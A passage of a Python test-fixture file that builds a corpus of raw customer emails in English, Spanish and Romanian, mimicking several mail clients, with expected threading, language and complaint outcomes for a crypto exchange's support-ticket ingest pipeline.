"""Inbound emails as they arrive from real mail clients and servers, each with the outcome we expect.

Pure Python (no Django): the proof for PRD-01 (threading), DFS-12 (acknowledgement) and DFS-25 / NYCRR-06
(the original stored as received). ``test_corpus.py`` runs every message through the ingest pipeline.

Raw messages hold placeholders that the test fills in bytewise before ingest (``render``):
``{{customer}}`` the fixture customer's address, ``{{reference}}`` the fixture case reference,
``{{ack_message_id}}`` the Message-ID of our acknowledgement (with angle brackets),
``{{customer_message_id}}`` the Message-ID of the customer's first mail, ``{{token_address}}`` our per-case
reply address, ``{{support}}`` our support address and ``{{unique}}`` a fresh token per message.
Placeholders never appear inside base64 or other encoded content, where they could not be replaced.
"""

from __future__ import annotations

import base64
import random
from dataclasses import dataclass
from typing import Any, Literal

Outcome = Literal["new_case", "reply", "auto_reply", "bounce", "quarantined", "duplicate"]
Thread = Literal["new", "in_reply_to", "references", "token", "subject"]


@dataclass(frozen=True)
class Expect:
    outcome: Outcome
    thread: Thread | None = None
    language: str | None = None  # "en" | "es" | "ro", detected language of a new case
    kind: str | None = None  # "request" | "complaint" for a new case / after a reply
    text_contains: tuple[str, ...] = ()  # substrings of the stored (full, redacted) message body
    text_excludes: tuple[str, ...] = ()  # must NOT be in the stored body (e.g. a pasted seed phrase)
    visible_excludes: tuple[str, ...] = ()  # not in the agent's trimmed view (quoted history, signature)
    redacted: tuple[str, ...] = ()  # redaction kinds: "mnemonic", "private_key", "card_number"
    attachments: int = 0  # attachments stored
    refused_attachments: int = 0  # dangerous attachments refused
    reason_code: str = ""  # for quarantined
    # Additions beyond the brief, all optional: what the agent must still see, the decoded subject and the
    # decoded attachment file names.
    visible_contains: tuple[str, ...] = ()
    subject_contains: tuple[str, ...] = ()
    attachment_names: tuple[str, ...] = ()


@dataclass(frozen=True)
class CorpusMessage:
    name: str  # unique slug, used as the pytest id
    raw: bytes  # may contain placeholders {{name}} replaced bytewise before ingest
    expect: Expect


def render(raw: bytes, values: dict[str, str]) -> bytes:
    """Replace every ``{{key}}`` by its value (UTF-8), bytewise: the rest of the message is left alone."""
    for key, value in values.items():
        raw = raw.replace(b"{{" + key.encode("ascii") + b"}}", value.encode("utf-8"))
    return raw


# --- building blocks -----------------------------------------------------------------------------------

ALICE = "Alice Carter <{{customer}}>"
SUPPORT = "Hudson Support <{{support}}>"
DATE = "Mon, 30 Nov 2026 10:42:17 -0500"
ACK_SUBJECT = "[{{reference}}] We have received your request"

# Our acknowledgement, as the customer's mail client quotes it back.
ACK_TEXT = """Hello,

Thank you for contacting Hudson Digital Assets. We have received your request
"Withdrawal pending" and opened case {{reference}}. Please quote this reference
whenever you contact us about it.

What happens next
1. A member of our customer-service team (a person) will review your case and
reply by Tuesday, December 1, 2026 at 5:00 PM EST at the latest.

Hudson Digital Assets Customer Service"""

ACK_TEXT_ES = """Hola:

Gracias por contactar con Hudson Digital Assets. Hemos recibido su solicitud
"Withdrawal pending" y hemos abierto el caso {{reference}}.

Hudson Digital Assets Atención al cliente"""

ACK_TEXT_RO = """Bună ziua,

Vă mulțumim că ați contactat Hudson Digital Assets. Am primit solicitarea
"Withdrawal pending" și am deschis cazul {{reference}}.

Hudson Digital Assets Serviciul clienți"""

Header = str | bytes


def _quote(text: str, prefix: str = "> ") -> str:
    return "\n".join(f"{prefix}{line}".rstrip() for line in text.split("\n"))


def _headers(
    *,
    subject: Header,
    sender: Header = ALICE,
    to: Header = SUPPORT,
    date: str = DATE,
    message_id: str = "<{{unique}}@mail.customer.test>",
    extra: tuple[Header, ...] = (),
    content_type: str = 'text/plain; charset="UTF-8"',
    encoding: str | None = "8bit",
) -> list[Header]:
    headers: list[Header] = []
    if sender:
        headers.append(b"From: " + sender if isinstance(sender, bytes) else f"From: {sender}")
    headers.append(b"To: " + to if isinstance(to, bytes) else f"To: {to}")
    headers.append(b"Subject: " + subject if isinstance(subject, bytes) else f"Subject: {subject}")
    headers += [f"Date: {date}"]
    if message_id:
        headers.append(f"Message-ID: {message_id}")
    headers += [*extra, "MIME-Version: 1.0", f"Content-Type: {content_type}"]
    if encoding:
        headers.append(f"Content-Transfer-Encoding: {encoding}")
    return headers


def _join(headers: list[Header], body: bytes, *, crlf: bool) -> bytes:
    newline = b"\r\n" if crlf else b"\n"
    lines = [h if isinstance(h, bytes) else h.encode("utf-8") for h in headers]
    if crlf:
        body = body.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    return newline.join(lines) + newline + newline + body


def _mail(body: str | bytes, *, crlf: bool = False, charset: str = "utf-8", **headers: Any) -> bytes:
    """One single-part message: ``body`` encoded in ``charset`` unless already bytes."""
    data = body if isinstance(body, bytes) else body.encode(charset)
    return _join(_headers(**headers), data, crlf=crlf)


def _part(headers: list[str], body: str | bytes, *, charset: str = "utf-8") -> bytes:
    data = body if isinstance(body, bytes) else body.encode(charset)
    return "\n".join(headers).encode("utf-8") + b"\n\n" + data


def _multipart(boundary: str, parts: list[bytes], *, preamble: str = "", close: bool = True) -> bytes:
    marker = f"--{boundary}".encode()
    out = preamble.encode() + b"\n" if preamble else b""
    for part in parts:
        out += marker + b"\n" + part.rstrip(b"\n") + b"\n"
    return out + (marker + b"--\n" if close else b"")


def _b64(data: bytes) -> str:
    return base64.encodebytes(data).decode("ascii")


def _encoded_word(text: str, charset: str = "UTF-8") -> str:
    """An RFC 2047 "B" encoded word, as most clients put non-ASCII names and subjects in headers."""
    return f"=?{charset}?B?{base64.b64encode(text.encode(charset)).decode('ascii')}?="


def _reply_headers(**overrides: Any) -> dict[str, Any]:
    """A reply to our acknowledgement with the usual threading headers."""
    values: dict[str, Any] = {
        "subject": f"Re: {ACK_SUBJECT}",
        "to": SUPPORT,
        "extra": (
            "In-Reply-To: {{ack_message_id}}",
            "References: {{customer_message_id}} {{ack_message_id}}",
        ),
    }
    values.update(overrides)
    return values


# Tiny but well-formed file payloads.
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
PDF += b"trailer<</Root 1 0 R>>\n%%EOF\n"
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"This program cannot be run in DOS mode."
)

MNEMONIC = "abandon abandon abandon abandon abandon abandon abandon abandon abandon abandon abandon about"
PRIVATE_KEY = "4c0883a69102937d6231471b5dbb6204fe5129617082792ae468d01a3f362318"
TX_HASH = "0x5c504ed432cb51138bcf09aa5e8a410dd4a1e204ef84bfed1be16dfba1b22060"
ETH_ADDRESS = "0x52908400098527886E0F7030069857D2E4169EE7"

CORPUS: list[CorpusMessage] = []


def _add(name: str, raw: bytes, expect: Expect) -> None:
    CORPUS.append(CorpusMessage(name=name, raw=raw, expect=expect))


# --- replies from the mail clients our customers use (PRD-01) ------------------------------------------

_GMAIL_TEXT = f"""Hi,

The withdrawal is still pending this morning. I checked the destination
address again and it is correct.

Thanks,
Alice

On Mon, 30 Nov 2026 at 10:00, Hudson Support <{{{{support}}}}> wrote:

{_quote(ACK_TEXT)}
"""
_GMAIL_HTML = """<div dir="ltr">Hi,<div><br></div><div>The withdrawal is still pending this morning. I checked
the destination address again and it is correct.</div><div><br></div><div>Thanks,</div><div>Alice</div></div>
<br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Mon, 30 Nov 2026 at 10:00, Hudson Support
&lt;{{support}}&gt; wrote:<br></div><blockquote class="gmail_quote">Hello,<br>Thank you for contacting
Hudson Digital Assets.</blockquote></div>
"""
_add(
    "reply-gmail-in-reply-to",
    _join(
        _headers(
            **_reply_headers(
                content_type='multipart/alternative; boundary="000000000000a1b2c3d4e5f6"',
                encoding=None,
                message_id="<CAF{{unique}}+x=Yq@mail.gmail.com>",
            )
        ),
        _multipart(
            "000000000000a1b2c3d4e5f6",
            [
                _part(['Content-Type: text/plain; charset="UTF-8"'], _GMAIL_TEXT),
                _part(
                    [
                        'Content-Type: text/html; charset="UTF-8"',
                        "Content-Transfer-Encoding: quoted-printable",
                    ],
                    _GMAIL_HTML.replace("=", "=3D"),
                ),
            ],
        ),
        crlf=False,
    ),
    Expect(
        "reply",
        thread="in_reply_to",
        kind="request",
        text_contains=("The withdrawal is still pending this morning",),
        visible_contains=("The withdrawal is still pending this morning",),
        visible_excludes=("wrote:", "Thank you for contacting Hudson", "> Hello"),
    ),
)

# Gmail wraps a long attribution line in the text part: the address moves to the next line.
_add(
    "reply-gmail-wrapped-attribution",
    _mail(
        """Good morning, I have now also sent you the screenshot of the pending
withdrawal through the website form.

On Mon, 30 Nov 2026 at 10:00, Hudson Digital Assets Customer Service Team <
{{support}}> wrote:

"""
        + _quote(ACK_TEXT)
        + "\n",
        crlf=True,
        **_reply_headers(message_id="<CAF{{unique}}wrap@mail.gmail.com>"),
    ),
    Expect(
        "reply",
        thread="in_reply_to",
        text_contains=("screenshot of the pending",),
        visible_contains=("screenshot of the pending",),
        visible_excludes=("Thank you for contacting Hudson", "wrote:", "On Mon"),
    ),
)

_OUTLOOK_TEXT = (
    """Hello,

I still have not received the funds. Could you please check with the blockchain team again?

Kind regards,
Alice Carter

________________________________
From: Hudson Support <{{support}}>
Sent: Monday, November 30, 2026 10:00 AM
To: Alice Carter <{{customer}}>
Subject: [{{reference}}] We have received your request

"""
    + ACK_TEXT
)
_add(
    "reply-outlook-header-block",
    _mail(
        _OUTLOOK_TEXT,
        crlf=True,
        charset="cp1252",
        **_reply_headers(
            subject=f"RE: {ACK_SUBJECT}",
            message_id="<DM6PR{{unique}}@DM6PR11MB.namprd11.prod.outlook.com>",
            content_type='text/plain; charset="Windows-1252"',
            encoding="quoted-printable",
            extra=(
                "Thread-Topic: [{{reference}}] We have received your request",
                "Thread-Index: AQHZ8k3l2m5f1b3c4d5e6f7g8h9i0j==",
                "In-Reply-To: {{ack_message_id}}",
                "References: {{ack_message_id}}",
                "X-MS-Has-Attach:",
                "X-MS-TNEF-Correlator:",
                "Accept-Language: en-US",
            ),
        ),
    ),
    Expect(
        "reply",
        thread="in_reply_to",
        kind="request",
        text_contains=("check with the blockchain team again",),
        visible_contains=("check with the blockchain team again",),
        visible_excludes=("Sent: Monday, November 30, 2026", "Thank you for contacting Hudson"),
    ),
)

_add(
    "reply-outlook-original-message",
    _mail(
        """Please find below the transaction reference from my bank: TRX-2026-11-30-0042.

-----Original Message-----
From: Hudson Support <{{support}}>
Sent: Monday, November 30, 2026 10:00 AM
To: alice@customer.test
Subject: [{{reference}}] We have received your request

"""
        + ACK_TEXT
        + "\n",
        crlf=True,
        **_reply_headers(
            subject=f"RE: {ACK_SUBJECT}",
            message_id="<000001db4321$abcd1234$ef567890@customer.test>",
            extra=("In-Reply-To: {{ack_message_id}}", "X-Mailer: Microsoft Outlook 16.0"),
        ),
    ),
    Expect(
        "reply",
        thread="in_reply_to",
        text_contains=("TRX-2026-11-30-0042",),
        visible_contains=("TRX-2026-11-30-0042",),
        visible_excludes=("Original Message", "Thank you for contacting Hudson"),
    ),
)

_add(
    "reply-outlook-spanish-header-block",
    _mail(
        """Buenos días:

Sigo sin recibir los fondos. ¿Pueden darme una fecha concreta?

________________________________
De: Hudson Support <{{support}}>
Enviado: lunes, 30 de noviembre de 2026 10:00
Para: Alice Carter <{{customer}}>
Asunto: [{{reference}}] We have received your request

"""
        + ACK_TEXT_ES
        + "\n",
        crlf=True,
        **_reply_headers(subject=f"RE: {ACK_SUBJECT}", message_id="<AM0PR{{unique}}@eurprd.outlook.com>"),
    ),
    Expect(
        "reply",
        thread="in_reply_to",
        text_contains=("Sigo sin recibir los fondos",),
        visible_contains=("Sigo sin recibir los fondos",),
        visible_excludes=("Enviado: lunes", "Gracias por contactar"),
    ),
)

_add(
    "reply-apple-mail",
    _mail(
        """Thank you. I will wait for your answer, but please note that I need these
funds to pay my rent on Friday.

Alice

> On 30 Nov 2026, at 10:00, Hudson Support <{{support}}> wrote:
>
"""
        + _quote(ACK_TEXT)
        + "\n",
        charset="us-ascii",
        **_reply_headers(
            message_id="<4B3F1C2E-{{unique}}@customer.test>",
            content_type="text/plain; charset=us-ascii",
            encoding="7bit",
            extra=(
                "In-Reply-To: {{ack_message_id}}",
                "References: {{ack_message_id}}",
                "X-Mailer: Apple Mail (2.3774.200.91.1.1)",
            ),
        ),
    ),
    Expect(
        "reply",
        thread="in_reply_to",
        text_contains=("pay my rent on Friday",),
        visible_contains=("pay my rent on Friday",),
        visible_excludes=("wrote:", "Thank you for contacting Hudson"),
    ),
)

_add(
    "reply-thunderbird-signature",
    _mail(
        """Hello,

here is the information you asked for: the withdrawal ID is W-884213.

Best regards

--\x20
Alice Carter
+1 555 0100 | Brooklyn, NY

On 30/11/2026 10:00, Hudson Support wrote:
"""
        + _quote(ACK_TEXT)
        + "\n",
        **_reply_headers(
            subject=f"Re: {ACK_SUBJECT}",
            message_id="<{{unique}}.tb@customer.test>",
            content_type="text/plain; charset=UTF-8; format=flowed",
            extra=(
                "References: {{customer_message_id}} {{ack_message_id}}",
                "User-Agent: Mozilla Thunderbird",
                "Content-Language: en-US",
            ),
        ),
    ),
    Expect(
        "reply",
        thread="references",
        text_contains=("the withdrawal ID is W-884213",),
        visible_contains=("the withdrawal ID is W-884213",),
        visible_excludes=("+1 555 0100", "Thank you for contacting Hudson"),
    ),
)

# Interleaved (bottom-posted) answers: the new words come after the quote and must stay visible.
_add(
    "reply-thunderbird-bottom-posted",
    _mail(
        """On 30/11/2026 10:00, Hudson Support wrote:
> Please quote this reference whenever you contact us about it.

Sure. The withdrawal ID is W-884213 and it was requested at 09:12.
""",
        **_reply_headers(
            message_id="<{{unique}}.tbbottom@customer.test>", extra=("In-Reply-To: {{ack_message_id}}",)
        ),
    ),
    Expect(
        "reply",
        thread="in_reply_to",
        text_contains=("requested at 09:12",),
        visible_contains=("requested at 09:12",),
    ),
)

_add(
    "reply-iphone",
    _mail(
        """Ok thanks, I will wait for the team.

Sent from my iPhone

> On 30 Nov 2026, at 10:00, Hudson Support <{{support}}> wrote:
>
"""
        + _quote(ACK_TEXT)
        + "\n",
        crlf=True,
        **_reply_headers(
            message_id="<A1B2C3D4-{{unique}}@customer.test>",
            content_type="text/plain; charset=utf-8",
            encoding="quoted-printable",
            extra=(
                "In-Reply-To: {{ack_message_id}}",
                "References: {{ack_message_id}}",
                "X-Mailer: iPhone Mail (22B91)",
            ),
        ),
    ),
    Expect(
        "reply",
        thread="in_reply_to",
        text_contains=("I will wait for the team",),
        visible_contains=("I will wait for the team",),
        visible_excludes=("Sent from my iPhone", "wrote:"),
    ),
)

_add(
    "reply-spanish-gmail",
    _mail(
        """Hola,

Les escribo de nuevo porque el retiro sigue pendiente. ¿Podrían revisar si hay
algún problema con la dirección de destino?

Gracias,
Alicia

El lun, 30 nov 2026 a las 10:00, Soporte Hudson (<{{support}}>) escribió:

"""
        + _quote(ACK_TEXT_ES)
        + "\n",
        **_reply_headers(message_id="<CAE{{unique}}es@mail.gmail.com>"),
    ),
    Expect(
        "reply",
        thread="in_reply_to",
        text_contains=("el retiro sigue pendiente",),
        visible_contains=("el retiro sigue pendiente",),
        visible_excludes=("escribió:", "Gracias por contactar"),
    ),
)

_add(
    "reply-spanish-iphone",
    _mail(
        """Perfecto, muchas gracias. Quedo a la espera de su respuesta.

Enviado desde mi iPhone

> El 30 nov 2026, a las 10:00, Soporte Hudson <{{support}}> escribió:
>
"""
        + _quote(ACK_TEXT_ES)
        + "\n",
        crlf=True,
        **_reply_headers(
            message_id="<9F8E7D6C-{{unique}}@customer.test>", extra=("In-Reply-To: {{ack_message_id}}",)
        ),
    ),
    Expect(
        "reply",
        thread="in_reply_to",
        text_contains=("Quedo a la espera de su respuesta",),
        visible_contains=("Quedo a la espera de su respuesta",),
        visible_excludes=("Enviado desde mi iPhone", "Gracias por contactar"),
    ),
)

_add(
    "reply-romanian-gmail",
    _mail(
        """Bună ziua,

Retragerea este încă în așteptare. Vă rog să verificați dacă adresa de
destinație este corectă.

Mulțumesc,
Alice

În lun., 30 nov. 2026 la 10:00, Support <{{support}}> a scris:

"""
        + _quote(ACK_TEXT_RO)
        + "\n",
        **_reply_headers(message_id="<CAR{{unique}}ro@mail.gmail.com>"),
    ),
    Expect(
        "reply",
        thread="in_reply_to",
        text_contains=("Retragerea este încă în așteptare",),
        visible_contains=("Retragerea este încă în așteptare",),
        visible_excludes=("a scris:", "Vă mulțumim că ați contactat"),
    ),
)

_add(
    "reply-romanian-iphone",
    _mail(
        """Am înțeles, mulțumesc. Aștept răspunsul dumneavoastră.

Trimis de pe iPhone

> În 30 nov. 2026, la 10:00, Support <{{support}}> a scris:
>
"""
        + _quote(ACK_TEXT_RO)
        + "\n",
        crlf=True,
        **_reply_headers(message_id="<5E4D3C2B-{{unique}}@customer.test>"),
    ),
    Expect(
        "reply",
        thread="in_reply_to",
        text_contains=("Aștept răspunsul dumneavoastră",),
        visible_contains=("Aștept răspunsul dumneavoastră",),
        visible_excludes=("Trimis de pe iPhone", "Vă mulțumim că ați contactat"),
    ),
)

# A follow-up that turns the request into a complaint (§5.1: dissatisfaction makes it one).
_add(
    "reply-becomes-complaint",
    _mail(
        """This is unacceptable. It has been a week and my money is still stuck. I want to
file a formal complaint about how this has been handled.

On Mon, 30 Nov 2026 at 10:00, Hudson Support <{{support}}> wrote:
"""
        + _quote(ACK_TEXT)
        + "\n",
        **_reply_headers(message_id="<CAF{{unique}}angry@mail.gmail.com>"),
    ),
    Expect(
        "reply",
        thread="in_reply_to",
        kind="complaint",
        text_contains=("I want to\nfile a formal complaint",),
    ),
)

# Outlook on the web sends HTML only; its quoted header block is bold labels in a div.
_add(
    "reply-outlook-html-only",
    _mail(
        """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<style>p.MsoNormal { margin: 0; }</style></head><body>
<div class="WordSection1"><p class="MsoNormal">Hi, the withdrawal finally arrived this morning.
Thank you for your help!</p></div>
<hr style="display:inline-block;width:98%" tabindex="-1">
<div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif" style="font-size:11pt">
<b>From:</b> Hudson Support &lt;{{support}}&gt;<br>
<b>Sent:</b> Monday, November 30, 2026 10:00 AM<br>
<b>To:</b> Alice Carter &lt;{{customer}}&gt;<br>
<b>Subject:</b> [{{reference}}] We have received your request</font>
<div>&nbsp;</div></div>
<div><p>Hello,</p><p>Thank you for contacting Hudson Digital Assets. We have received your request
and opened case {{reference}}.</p></div>
</body></html>
""",
        crlf=True,
        **_reply_headers(
            subject=f"RE: {ACK_SUBJECT}",
            message_id="<SN7PR{{unique}}@SN7PR11MB.namprd11.prod.outlook.com>",
            content_type='text/html; charset="utf-8"',
        ),
    ),
    Expect(
        "reply",
        thread="in_reply_to",
        kind="request",
        text_contains=("the withdrawal finally arrived this morning",),
        text_excludes=("<b>", "MsoNormal"),
        visible_contains=("the withdrawal finally arrived this morning",),
        visible_excludes=("Sent: Monday", "Thank you for contacting Hudson"),
    ),
)


# --- threading (PRD-01) ---------------------------------------------------------------------------------

_add(
    "thread-references-ours-last",
    _mail(
        "Any news about my withdrawal? It is now the fourth day.\n",
        subject=f"Re: {ACK_SUBJECT}",
        message_id="<{{unique}}.refs@customer.test>",
        extra=(
            "References: <older-{{unique}}@lists.elsewhere.test> {{customer_message_id}} {{ack_message_id}}",
        ),
    ),
    Expect("reply", thread="references", text_contains=("It is now the fourth day",)),
)

# The customer answered their own copy last (sent from another device): our id is in References, not last.
_add(
    "thread-references-ours-not-last",
    _mail(
        "Adding one more detail: the amount was 0.5 BTC, not 0.05 BTC.\n",
        subject="Re: Re: Withdrawal pending",
        message_id="<{{unique}}.refs2@customer.test>",
        extra=("References: {{customer_message_id}}\n {{ack_message_id}}\n <{{unique}}.mine@customer.test>",),
    ),
    Expect("reply", thread="references", text_contains=("the amount was 0.5 BTC",)),
)

_add(
    "thread-subject-tag-removed-in-reply-to",
    _mail(
        "Still waiting, nothing has arrived in my external wallet yet.\n",
        subject="Still waiting",
        message_id="<{{unique}}.notag@customer.test>",
        extra=("In-Reply-To: {{ack_message_id}}",),
    ),
    Expect("reply", thread="in_reply_to", text_contains=("nothing has arrived",)),
)

_add(
    "thread-in-reply-to-own-first-message",
    _mail(
        "Sorry, I forgot to say: the withdrawal went to my Ledger hardware wallet.\n",
        subject="Re: Withdrawal pending",
        message_id="<{{unique}}.self@customer.test>",
        extra=("In-Reply-To: {{customer_message_id}}", "References: {{customer_message_id}}"),
    ),
    Expect("reply", thread="in_reply_to", text_contains=("Ledger hardware wallet",)),
)

_add(
    "thread-token-address",
    _mail(
        "Following up on my case: is there anything else you need from me?\n",
        subject="Following up",
        to="Hudson Support <{{token_address}}>",
        message_id="<{{unique}}.token@customer.test>",
        crlf=True,
    ),
    Expect("reply", thread="token", text_contains=("anything else you need from me",)),
)

_add(
    "thread-token-address-in-cc",
    _mail(
        "Copying the case address as you asked. My husband can confirm the withdrawal.\n",
        subject="Withdrawal",
        to="Bob Carter <bob@customer.test>",
        message_id="<{{unique}}.tokencc@customer.test>",
        extra=("Cc: {{token_address}}",),
    ),
    Expect("reply", thread="token", text_contains=("My husband can confirm",)),
)

_add(
    "thread-subject-bracket",
    _mail(
        "I am writing from my phone's mail app, which does not keep the thread.\n",
        subject=f"Re: {ACK_SUBJECT}",
        message_id="<{{unique}}.subj@customer.test>",
    ),
    Expect("reply", thread="subject", text_contains=("does not keep the thread",)),
)

_add(
    "thread-subject-plain-reference",
    _mail(
        "Hello, any update on this case? Thank you.\n",
        subject="Re: {{reference}}",
        message_id="<{{unique}}.subj2@customer.test>",
        crlf=True,
    ),
    Expect("reply", thread="subject", text_contains=("any update on this case",)),
)

# Addresses are case-insensitive: the same customer with her address in capitals.
_add(
    "thread-subject-sender-in-capitals",
    _mail(
        "Hello again. I am still waiting for the withdrawal to arrive.\n",
        sender="ALICE CARTER <ALICE@CUSTOMER.TEST>",
        subject="Case {{reference}} - still waiting",
        message_id="<{{unique}}.caps@customer.test>",
    ),
    Expect("reply", thread="subject", text_contains=("still waiting for the withdrawal",)),
)

# A stranger who types someone else's reference must not get into that case.
_add(
    "thread-subject-reference-from-stranger",
    _mail(
        """Hello, my withdrawal of 1.2 ETH is also stuck since yesterday. I saw this
reference number on a forum and I think it is the same problem. Please help me
get my funds released as soon as possible.
""",
        sender="Mark Stranger <stranger@elsewhere.test>",
        subject="[{{reference}}] my withdrawal",
        message_id="<{{unique}}.stranger@elsewhere.test>",
    ),
    Expect(
        "new_case",
        thread="new",
        language="en",
        kind="request",
        text_contains=("my withdrawal of 1.2 ETH is also stuck",),
    ),
)

_add(
    "thread-stranger-in-reply-to-our-ack",
    _mail(
        """Hi, my friend forwarded me your email and I have exactly the same issue with
a pending withdrawal. My account is under this address. Can you look at it too?
""",
        sender="Mark Stranger <stranger@elsewhere.test>",
        subject=f"Re: {ACK_SUBJECT}",
        message_id="<{{unique}}.stranger2@elsewhere.test>",
        extra=("In-Reply-To: {{ack_message_id}}",),
    ),
    # A help desk must not file a stranger's words on Alice's case (privacy): a new case for the stranger.
    Expect("new_case", thread="new", language="en", text_contains=("exactly the same issue",)),
)

_add(
    "thread-forwarded-by-customer",
    _mail(
        """Please see the confirmation from my bank below.

---------- Forwarded message ---------
From: First Bank <noreply@firstbank.test>
Date: Mon, 30 Nov 2026 at 09:30
Subject: Outgoing transfer confirmation
To: <{{customer}}>

Your transfer of USD 500.00 to HUDSON DIGITAL ASSETS was completed on
November 27, 2026. Reference: FB-7781-2209.
""",
        subject="Fwd: Outgoing transfer confirmation",
        message_id="<CAF{{unique}}fwd@mail.gmail.com>",
        extra=("In-Reply-To: {{ack_message_id}}", "References: {{ack_message_id}}"),
    ),
    Expect(
        "reply",
        thread="in_reply_to",
        text_contains=("Please see the confirmation from my bank", "FB-7781-2209"),
        visible_contains=("Please see the confirmation from my bank",),
    ),
)

# A 5,000-character References header (a long thread through a mailing list) ending with our id.
_LONG_REFERENCES = "\n ".join(f"<thread-{i:04d}.{{{{unique}}}}@lists.elsewhere.test>" for i in range(110))
_add(
    "thread-huge-references-header",
    _mail(
        "Replying at the end of a very long thread: my withdrawal is still pending.\n",
        subject=f"Re: {ACK_SUBJECT}",
        message_id="<{{unique}}.longrefs@customer.test>",
        extra=(f"References: {_LONG_REFERENCES}\n {{{{ack_message_id}}}}",),
    ),
    Expect("reply", thread="references", text_contains=("at the end of a very long thread",)),
)

# In-Reply-To names a message we never saw (the customer answered another copy); References has ours.
_add(
    "thread-in-reply-to-unknown-references-ours",
    _mail(
        "I answered from my tablet earlier; repeating here: the withdrawal ID is W-884213.\n",
        subject=f"Re: {ACK_SUBJECT}",
        message_id="<{{unique}}.tablet@customer.test>",
        extra=(
            "In-Reply-To: <{{unique}}.unknown@tablet.customer.test>",
            "References: {{ack_message_id}} <{{unique}}.unknown@tablet.customer.test>",
        ),
    ),
    Expect("reply", thread="references", text_contains=("repeating here",)),
)


# --- new cases in each language (DFS-12) ---------------------------------------------------------------

_add(
    "new-en-withdrawal-delayed",
    _mail(
        """Hello,

I requested a withdrawal of 0.8 BTC to my external wallet on Thursday and it is
still shown as processing. I have completed identity verification and the
address is whitelisted. Could you tell me when it will be sent?

Regards,
Bob Miller
""",
        sender="Bob Miller <bob.miller@customer.test>",
        subject="Withdrawal still processing",
        crlf=True,
    ),
    Expect(
        "new_case",
        thread="new",
        language="en",
        kind="request",
        text_contains=("withdrawal of 0.8 BTC",),
    ),
)

_add(
    "new-en-deposit-not-credited",
    _mail(
        """Hi there,

I made a bank transfer of 250 USD on Friday and it still has not appeared in my
account. The bank says the money left my account the same day. Could you please
check what happened?

Thanks, Priya
""",
        sender='"Priya Patel" <priya@mail.example.test>',
        subject="Deposit not credited",
    ),
    Expect(
        "new_case", thread="new", language="en", kind="request", text_contains=("bank transfer of 250 USD",)
    ),
)

_add(
    "new-en-2fa-lost",
    _mail(
        """Hello,

I lost my phone and with it my authenticator app, so I cannot log in any more.
I still have access to this email address and my ID documents. How can I reset
two-factor authentication on my account?
""",
        sender="Tom Becker <tom.becker@customer.test>",
        subject="Lost my 2FA device",
    ),
    Expect("new_case", thread="new", language="en", kind="request", text_contains=("authenticator app",)),
)

_add(
    "new-en-scam-report",
    _mail(
        """Someone contacted me on Telegram pretending to be Hudson support and asked me
to move my coins to a "safe wallet". I sent 0.2 ETH before I realised it was a
scam. Can you freeze that address and tell me what to do next?
""",
        sender="Grace Kim <grace.kim@customer.test>",
        subject="Fake support account on Telegram",
        crlf=True,
    ),
    Expect("new_case", thread="new", language="en", text_contains=("pretending to be Hudson support",)),
)

_add(
    "new-es-withdrawal-delayed",
    _mail(
        """Hola,

Solicité un retiro de 300 USDT el viernes y todavía aparece como pendiente. La
dirección de destino es correcta y ya verifiqué mi identidad. ¿Me pueden decir
cuándo se procesará?

Saludos,
Carlos Ruiz
""",
        sender="Carlos Ruiz <carlos.ruiz@correo.test>",
        subject="Retiro pendiente",
    ),
    Expect("new_case", thread="new", language="es", kind="request", text_contains=("Solicité un retiro",)),
)

_add(
    "new-es-deposit-not-credited",
    _mail(
        """Buenas tardes:

Hice una transferencia de 200 euros el lunes y el depósito no aparece en mi
cuenta. El banco me confirma que el dinero salió ese mismo día. ¿Pueden
revisarlo, por favor?

Lucía Fernández
""",
        sender="=?UTF-8?Q?Luc=C3=ADa_Fern=C3=A1ndez?= <lucia@correo.test>",
        subject="=?UTF-8?Q?Dep=C3=B3sito_no_acreditado?=",
        crlf=True,
    ),
    Expect(
        "new_case",
        thread="new",
        language="es",
        kind="request",
        text_contains=("el depósito no aparece",),
        subject_contains=("Depósito no acreditado",),
    ),
)

_add(
    "new-ro-2fa-lost",
    _mail(
        """Bună ziua,

Am pierdut telefonul cu aplicația de autentificare în doi pași și nu mai pot
intra în cont. Am acces la adresa de e-mail și la actul de identitate. Vă rog
să mă ajutați să resetez autentificarea în doi pași.

Mulțumesc,
Ion Popescu
""",
        sender="Ion Popescu <ion.popescu@posta.test>",
        subject="Nu mai am acces la 2FA",
    ),
    Expect(
        "new_case", thread="new", language="ro", kind="request", text_contains=("aplicația de autentificare",)
    ),
)

_add(
    "new-ro-scam-report",
    _mail(
        """Bună ziua,

Am primit un mesaj pe WhatsApp de la cineva care pretindea că lucrează la
Hudson. Mi-a cerut să instalez o aplicație de acces la distanță. Nu am făcut
acest lucru, dar vreau să vă anunț și să știu dacă contul meu este în siguranță.
""",
        sender="Maria Ionescu <maria.ionescu@posta.test>",
        subject="Mesaj suspect pe WhatsApp",
        crlf=True,
    ),
    Expect("new_case", thread="new", language="ro", text_contains=("pretindea că lucrează",)),
)

_add(
    "new-en-complaint",
    _mail(
        """This is unacceptable, I want to file a complaint. My withdrawal has been stuck
for two weeks, I have written four times and nobody answers. I expect a full
explanation and my funds released immediately.
""",
        sender="Dan Brooks <dan.brooks@customer.test>",
        subject="Formal complaint",
    ),
    Expect(
        "new_case",
        thread="new",
        language="en",
        kind="complaint",
        text_contains=("I want to file a complaint",),
    ),
)

_add(
    "new-es-complaint",
    _mail(
        """Quiero presentar una queja. Mi retiro lleva dos semanas pendiente, he escrito
varias veces y nadie me responde. Es inaceptable que traten así a sus clientes.
""",
        sender="Javier Gómez <javier.gomez@correo.test>",
        subject="Queja formal",
        crlf=True,
    ),
    Expect(
        "new_case",
        thread="new",
        language="es",
        kind="complaint",
        text_contains=("Quiero presentar una queja",),
    ),
)

_add(
    "new-ro-complaint",
    _mail(
        """Vreau să depun o reclamație. Retragerea mea este blocată de două săptămâni și
nimeni nu îmi răspunde la mesaje. Este inacceptabil să fiu tratat astfel.
""",
